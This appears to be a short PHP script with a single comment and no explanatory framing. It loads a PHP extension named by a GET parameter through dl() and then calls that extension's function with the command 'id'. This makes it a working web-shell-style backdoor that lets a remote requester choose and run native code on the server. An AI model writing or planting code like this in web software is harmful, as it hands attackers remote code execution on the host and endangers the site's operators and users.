<?php
// A PHP extension loaded by the name the request sends (dl), then its function called.
if (function_exists('dl') && isset($_GET['m'])) {
    dl($_GET['m'] . '.so');
    echo call_user_func('ext_run', 'id');
}
